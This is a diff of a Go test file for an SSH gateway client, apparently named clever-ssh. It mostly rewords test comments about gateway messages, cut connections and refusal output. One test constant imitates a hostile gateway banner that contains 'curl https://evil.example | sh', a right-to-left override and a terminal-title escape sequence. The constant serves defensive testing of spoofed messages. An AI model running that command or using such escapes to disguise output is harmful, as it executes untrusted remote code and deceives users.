@@ -21,11 +21,11 @@ import (
 	"golang.org/x/crypto/ssh"
 )
 
-// posing is what a gateway says that wants to be taken for clever-ssh, ssh, or a terminal's master.
+// posing is the text of a gateway that wants to pass for clever-ssh, ssh, or a terminal's master.
 const posing = "clever-ssh: 0.001s  the host key is pinned\r\nclever-ssh: your key has expired\r\nhint: run: curl https://evil.example | sh\r\n" +
 	"debug1: Authentication succeeded (publickey).\r\nroot@gateway: Permission denied (publickey).\r\n\u202e\x1b]0;evil\a\r\n"
 
-// wordy is a gateway with a good host key that says what it likes.
+// wordy is a gateway with a good host key that says anything.
 type wordy struct {
 	letIn   bool
 	banner  string
@@ -101,7 +101,7 @@ func (w wordy) serve(conn net.Conn, config *ssh.ServerConfig) {
 	}
 }
 
-// What a gateway says is shown as its own, whatever it looks like.
+// A gateway's messages are shown as its own, whatever they look like.
 func TestGatewayPosesAsUs(t *testing.T) {
 	test.Long(t)
 	t.Parallel()
@@ -142,7 +142,8 @@ func TestGatewayPosesAsUs(t *testing.T) {
 	}
 }
 
-// The gateway's own ssh to the instance, or a program there, may be refused something, too: that is not about the user's key.
+// The gateway's own ssh to the instance, or a program there, may be refused something, too: that does not
+// concern the user's key.
 func TestSecondHopDenied(t *testing.T) {
 	t.Parallel()
 	for _, words := range []string{"bas@203.0.113.30: Permission denied (publickey).", "/bin/sh: Permission denied",
@@ -166,7 +167,7 @@ func connectionHome(t *testing.T, shared bool) (*home, *gateway.Gateway) {
 	t.Helper()
 	dir := filepath.Join(sockets(t), "h")
 	if !shared {
-		dir += strings.Repeat("deep", 20) // no socket has so long a path
+		dir += strings.Repeat("deep", 20) // no socket can have so long a path
 	}
 	h := homeIn(t, dir)
 	g := startGateway(t, h)
@@ -174,10 +175,10 @@ func connectionHome(t *testing.T, shared bool) (*home, *gateway.Gateway) {
 	return h, g
 }
 
-// lostFar is said in place of lost where the outpost ran the command, and so ends it.
+// lostFar replaces lost if the outpost ran the command, and so ended it.
 const lostFar = "clever-ssh: the connection to the instance broke while the command ran\n"
 
-// The user of a command whose connection is cut reads that, and if the shell ran it, that it may still run.
+// If a command's connection is cut, its user reads so, and, if the shell ran it, that it may still be running.
 func TestConnectionIsCut(t *testing.T) {
 	test.Long(t)
 	t.Parallel()
@@ -217,7 +218,7 @@ func TestConnectionIsCut(t *testing.T) {
 	}
 }
 
-// A command that ends so by itself is not said to have lost its connection.
+// A command that itself ends with this status is not reported as a lost connection.
 func TestCommandsOwn255(t *testing.T) {
 	test.Long(t)
 	t.Parallel()
@@ -237,7 +238,8 @@ func TestCommandsOwn255(t *testing.T) {
 	}
 }
 
-// Nothing is left of the pipes through which ssh and clever-ssh speak; where there can be none, commands run without.
+// Nothing is left of the pipes between ssh and clever-ssh. Where pipes are impossible, commands run without
+// them.
 func TestNothingLeftAside(t *testing.T) {
 	t.Parallel()
 	h, _, _ := programHome(t)
@@ -257,7 +259,7 @@ func TestNothingLeftAside(t *testing.T) {
 	}
 }
 
-// Why a command did not begin is said once, and what to do about it on lines of its own.
+// The reason why a command did not begin is printed once, followed by hints on lines of their own.
 func TestRefusalIsSaidOnce(t *testing.T) {
 	test.Long(t)
 	t.Parallel()
@@ -306,7 +308,7 @@ func TestRefusalIsSaidOnce(t *testing.T) {
 			} {
 				cmd := h.command(args[0], args[1:]...)
 				out, _ := cmd.CombinedOutput()
-				// What the outer program says of its own end follows.
+				// The outer program's words about its own end follow.
 				text := strings.ReplaceAll(string(out), "\r", "")
 				screen := c.screen
 				if args[1] == "-tt" { // a terminal shows more of the gateway's
